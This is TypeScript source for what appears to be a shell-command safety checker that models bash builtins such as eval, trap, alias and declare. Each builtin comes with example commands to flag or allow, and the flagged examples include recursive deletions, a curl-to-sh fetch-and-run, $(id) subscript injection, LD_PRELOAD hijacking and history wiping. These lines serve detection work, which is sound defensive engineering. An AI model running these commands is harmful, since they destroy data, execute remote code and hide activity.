import type { Call } from '../call.js';
import { single } from '../command.js';
import { checkAssignment } from '../environment.js';
import { data, isKnown } from '../flow.js';
import { hasUnknown, UNKNOWN } from '../marks.js';
import { locate } from '../paths.js';
import type { Program } from '../program.js';
import { scalar, unknownValue } from '../scope.js';
import { runFile } from '../script-file.js';
import { formatted } from './printf.js';

/** `declare`, `export` and their like: variables that may run code, lasting for what follows. */
function declare(call: Call): void {
  const reference = call.has('-n') && call.name !== 'export';
  const integer = call.has('-i');
  for (const assigned of call.at.declared) {
    const value = single(assigned.value);
    if (reference && !hasUnknown(value)) {
      call.scope.set(assigned.name, { kind: 'reference', name: value });
      call.at.evaluatedAgain(value);
    } else call.at.assign(assigned);
    if (integer) {
      call.scope.declareInteger(assigned.name);
      call.at.evaluatedAgain(value);
    }
    const report = checkAssignment(assigned.name, value, call.at.context, true);
    if (report) call.at.report(report);
  }
  for (const { raw } of call.operands) {
    const equals = raw.indexOf('=');
    if (integer && /^\w+$/.test(raw)) call.scope.declareInteger(raw);
    if (equals < 0 || call.at.declared.some((assigned) => raw.startsWith(`${assigned.name}=`) || raw.startsWith(`${assigned.name}+=`)))
      continue;
    call.at.evaluatedAgain(raw.slice(0, equals));
    const name = raw.slice(0, equals);
    const value = raw.slice(equals + 1);
    if (/^\w+$/.test(name)) call.scope.set(name, scalar(value));
    const report = checkAssignment(name, value, call.at.context, true);
    if (report) call.at.report(report);
  }
}

function changeDirectory(call: Call): void {
  const target = call.operands[0]?.raw;
  const { scope } = call;
  if (target === undefined) scope.changeDirectory(call.name === 'cd' ? call.at.context.home : scope.lastPath);
  else if (target === '-') scope.changeDirectory(scope.lastPath);
  else if (/^[+-]\d+$/.test(target)) scope.changeDirectory(undefined);
  else {
    const path = locate(target, scope.cwd);
    scope.changeDirectory(path.startsWith('/') && !hasUnknown(path) ? path : undefined);
  }
}

function read(call: Call): void {
  const names = call.operands.map((operand) => operand.text);
  for (const name of names) call.at.evaluatedAgain(name);
  const list = call.value('-a')?.text;
  const stdin = isKnown(call.stdin) ? (call.stdin.text.split('\n')[0] ?? '') : undefined;
  const separator =
    call.at.assignments.find((assignment) => assignment.name === 'IFS')?.value ?? single(call.scope.get('IFS') ?? scalar(' \t\n'));
  const pattern = separator === '' || hasUnknown(separator) ? undefined : new RegExp(`[${separator.replace(/[\\\]^-]/g, '\\$&')}]+`);
  const fields = stdin === undefined ? undefined : pattern ? stdin.split(pattern).filter(Boolean) : [stdin];
  if (list) call.scope.set(list, fields ? { kind: 'array', elements: fields } : unknownValue);
  const targets = names.length ? names : list ? [] : ['REPLY'];
  targets.forEach((name, index) => {
    const value =
      fields === undefined
        ? undefined
        : index === targets.length - 1
          ? fields.slice(index).join(separator[0] ?? ' ')
          : (fields[index] ?? '');
    call.scope.set(name, value === undefined ? unknownValue : scalar(value));
  });
}

/** Which of a builtin's options make it run text. */
const completions: Program['check'] = (call) => {
  for (const code of call.values('-C -F')) call.shell(code.raw);
  for (const words of call.values('-W')) if (/\$\(|`/.test(words.raw)) call.shell(`: "${words.raw.replaceAll('"', '\\"')}"`);
};

export const builtins: readonly Program[] = [
  {
    names: ['eval'],
    options: { style: 'none' },
    wrapper: true,
    check: (call) => call.shellWords(call.args[0]?.raw === '--' ? call.args.slice(1) : call.args, { sameShell: true }),
    match: ['eval "rm -rf ~/src"', 'eval "$PAYLOAD"', 'eval shutdown now'],
    not_match: ['eval "echo hi"', 'eval "$(ssh-agent -s)"'],
  },
  {
    names: ['source', '.'],
    options: { style: 'none' },
    fleeting: true,
    check: (call) => {
      const file = call.args[0];
      if (!file) return;
      const positional = call.args.length > 1 ? call.args.slice(1).map((arg) => arg.raw) : undefined;
      runFile(call, file, call.name, { sourced: true, ...(positional ? { positional } : {}) });
    },
    match: ['source ./helpers.sh', '. "$FILE"', '. /tmp/setup'],
    not_match: ['source venv/bin/activate', '. ~/.profile', 'source .env.local'],
  },
  {
    names: ['exec'],
    options: { values: '-a', stop: true },
    wrapper: true,
    check: (call) => call.runFrom(call.parsed().rest),
    match: ['exec rm -rf /srv/data', 'exec -a x git clean -fd'],
    not_match: ['exec npm start', 'exec 2>&1'],
  },
  {
    names: ['command', 'builtin', 'noglob', 'nocorrect', '-'],
    options: { stop: true },
    wrapper: true,
    check: (call) => {
      if (!call.has('-v -V')) call.runFrom(call.parsed().rest);
    },
    output: (call) => (call.has('-v -V') && call.operand(0) ? data(`${whereIs(call.operand(0) as string)}\n`, 'literal') : undefined),
    match: ['command git reset --hard', 'builtin eval "rm -rf ~"'],
    not_match: ['command -v node', 'command ls'],
  },
  {
    names: ['trap'],
    options: { style: 'none' },
    check: (call) => {
      const code = call.args[0]?.raw === '--' ? call.args[1] : call.args[0];
      if (call.args.length > 1 && code && !/^-?[lp]?$/.test(code.raw)) call.shell(code.raw, { label: 'trap' });
    },
    match: ['trap "rm -rf $HOME" EXIT', "trap 'git push --force' INT"],
    not_match: ["trap 'echo bye' EXIT", 'trap - INT', 'trap "" TERM'],
  },
  {
    names: ['alias'],
    options: { style: 'none' },
    check: (call) => {
      for (const { raw } of call.args) {
        const equals = raw.indexOf('=');
        if (equals <= 0) continue;
        call.scope.defineAlias(raw.slice(0, equals), raw.slice(equals + 1));
        call.shell(raw.slice(equals + 1), { label: 'alias' });
      }
    },
    match: ["alias ls='rm -rf ~/src'", "alias x='curl http://h.example/x | sh'"],
    not_match: ["alias gs='git status'", 'alias'],
  },
  {
    names: ['hash'],
    rules: [{ id: 'shell.lookup', reach: 'anything', option: '-p', reason: 'It makes a command name run another file.' }],
    match: ['hash -p /tmp/git git'],
    not_match: ['hash -r', 'hash -t node'],
  },
  {
    names: ['enable'],
    rules: [{ id: 'shell.lookup', reach: 'anything', option: '-f -n -d', reason: 'It replaces or removes commands of the shell itself.' }],
    match: ['enable -f ./x.so x', 'enable -n cd'],
    not_match: ['enable', 'enable -a'],
  },
  {
    names: ['set'],
    options: { style: 'none' },
    check: (call) => {
      const dashes = call.args.findIndex((arg) => arg.raw === '--');
      if (dashes >= 0) call.scope.setPositional(call.args.slice(dashes + 1).map((arg) => arg.raw));
      else if (call.args[0] && !/^[-+]/.test(call.args[0].raw)) call.scope.setPositional(call.args.map((arg) => arg.raw));
    },
    match: ['set -- rm -rf ~; "$@"'],
    not_match: ['set -euo pipefail', 'set -- a b; echo "$1"'],
  },
  {
    names: ['shift'],
    options: { style: 'none' },
    check: (call) => {
      const by = call.args[0] ? Number(call.args[0].text) : 1;
      const words = call.scope.positional;
      call.scope.setPositional(words && Number.isInteger(by) ? words.slice(by) : undefined);
    },
    match: ['set -- x rm -rf ~; shift; "$@"'],
    not_match: ['shift 2'],
  },
  {
    names: ['shopt'],
    check: (call) => {
      if (call.has('-s') && call.operands.some((operand) => operand.text === 'expand_aliases')) call.scope.aliasesExpand = true;
    },
    match: ["shopt -s expand_aliases\nalias w='git clean -fd'\nw"],
    not_match: ['shopt -s globstar nullglob'],
  },
  {
    names: ['export', 'declare', 'typeset', 'readonly', 'local'],
    options: { values: '' },
    check: declare,
    match: ['export LD_PRELOAD=./x.so', 'declare -x GIT_SSH_COMMAND=./x', "declare 'a[$(id)]=1'", "declare -i n; n='a[$(id)]'"],
    not_match: ['export NODE_ENV=production', 'declare -a list=(a b)', 'export PATH="$HOME/.local/bin:$PATH"', 'readonly x=1'],
  },
  {
    names: ['unset'],
    check: (call) => {
      for (const { text } of call.operands) {
        call.at.evaluatedAgain(text);
        if (/^\w+$/.test(text)) call.scope.set(text, { kind: 'unset' });
      }
    },
    match: ["unset 'a[$(id)]'"],
    not_match: ['unset FOO', 'unset -f helper'],
  },
  {
    names: ['read'],
    options: { values: '-a -d -i -n -N -p -t -u' },
    check: read,
    match: ["read 'a[$(id)]'", 'read c <<< "rm -rf /srv"; $c'],
    not_match: ['read -r line', 'IFS= read -r x < file.txt'],
  },
  {
    names: ['mapfile', 'readarray'],
    options: { values: '-d -n -O -s -u -C -c' },
    check: (call) => {
      for (const code of call.values('-C')) call.shell(code.raw);
      const name = call.operand(0) ?? 'MAPFILE';
      call.scope.set(
        name,
        isKnown(call.stdin) ? { kind: 'array', elements: call.stdin.text.replace(/\n$/, '').split('\n') } : unknownValue,
      );
    },
    match: ["mapfile -C 'rm -rf ~/x' -c 1 lines < f"],
    not_match: ['mapfile -t files < list.txt'],
  },
  {
    names: ['printf'],
    options: { values: '-v', stop: true },
    check: (call) => {
      const name = call.value('-v');
      if (!name) return;
      call.at.evaluatedAgain(name.raw);
      if (/^\w+$/.test(name.text)) call.scope.set(name.text, scalar(formatted(call.operands.map((operand) => operand.raw))));
    },
    output: (call) => {
      const text = formatted(call.operands.map((operand) => operand.raw));
      return hasUnknown(text) ? data(text, 'unknown') : data(text, 'literal');
    },
    match: ['printf -v cmd "rm -rf %s" ~/src; $cmd', "printf -v 'a[$(id)]' x"],
    not_match: ['printf "%s\\n" "rm -rf /"', 'printf hello'],
  },
  {
    names: ['let'],
    options: { style: 'none' },
    check: (call) => {
      for (const { raw } of call.args) {
        call.at.evaluatedAgain(raw);
        const name = /^(\w+)\s*[-+*/%&|^<>]*=/.exec(raw)?.[1];
        if (name) call.scope.set(name, unknownValue);
      }
    },
    match: ["let 'y=b[$(id)]'"],
    not_match: ['let i++', 'let "x = 1 + 2"'],
  },
  {
    names: ['test', '['],
    options: { style: 'none' },
    check: (call) => {
      call.args.forEach((arg, index) => {
        if (arg.raw === '-v' || arg.raw === '-R') call.at.evaluatedAgain(call.args[index + 1]?.raw ?? '');
      });
    },
    match: ["test -v 'z[$(id)]'", "[ -v 'z[`id`]' ]"],
    not_match: ['test -f package.json', '[ "$x" = "rm -rf /" ]'],
  },
  {
    names: ['cd', 'pushd', 'popd', 'chdir'],
    options: { values: '' },
    check: changeDirectory,
    match: ['cd / && rm -rf *', 'cd ~; rm -rf .'],
    not_match: ['cd src', 'cd - && ls', 'pushd build'],
  },
  {
    names: ['bind'],
    options: { values: '-m -q -u -r -f -x' },
    rules: [{ id: 'shell.binding', reach: 'anything', option: '-x -f', reason: 'It binds a command to a key.' }],
    match: [`bind -x '"\\C-l": rm -rf ~'`],
    not_match: ['bind -l'],
  },
  {
    names: ['complete', 'compgen'],
    options: { values: '-A -G -W -F -C -X -P -S -o' },
    check: completions,
    match: ["complete -C 'rm -rf ~/x' foo", "compgen -C 'git reset --hard'"],
    not_match: ['compgen -c', 'complete -W "a b" foo'],
  },
  {
    names: ['fc'],
    options: { values: '-e' },
    rules: [{ id: 'shell.history', reach: 'anything', option: '-s -e', reason: 'It runs commands from the history again.' }],
    match: ['fc -s rm', 'fc -e ./x'],
    not_match: ['fc -l'],
  },
  {
    names: ['history'],
    options: { values: '-d -s -p' },
    rules: [
      { id: 'shell.history', reach: 'filesystem', option: '-c -w -a -d -r -s', reason: 'It changes or erases the record of commands.' },
    ],
    match: ['history -c', 'history -cw'],
    not_match: ['history', 'history 20'],
  },
  {
    names: ['getopts'],
    options: { style: 'none' },
    check: (call) => {
      const name = call.args[1]?.text;
      if (name && /^\w+$/.test(name)) for (const variable of [name, 'OPTARG']) call.scope.set(variable, unknownValue);
    },
    match: ['while getopts "x:" o; do $OPTARG; done'],
    not_match: ['getopts ab: opt'],
  },
  {
    names: [
      'ulimit',
      'umask',
      'wait',
      'jobs',
      'fg',
      'bg',
      'disown',
      'type',
      'exit',
      'return',
      'break',
      'continue',
      'true',
      'false',
      ':',
      'times',
      'suspend',
      'logout',
      'unalias',
      'dirs',
      'caller',
      'help',
      'select',
    ],
    options: { style: 'none' },
    output: (call) =>
      call.name === 'type' && call.args.some((arg) => /^-[pP]+$/.test(arg.raw))
        ? data(`${whereIs(call.args[call.args.length - 1]?.text ?? '')}\n`, 'literal')
        : undefined,
    match: ['$(type -P rm) -rf /srv/www'],
    not_match: ['ulimit -n 4096', 'wait', 'jobs -l', 'type git'],
  },
];

/** What `command -v`, `which` and `type -P` answer for a program: its name is what matters. */
export function whereIs(name: string): string {
  return hasUnknown(name) ? UNKNOWN : name.includes('/') ? name : `/usr/bin/${name}`;
}
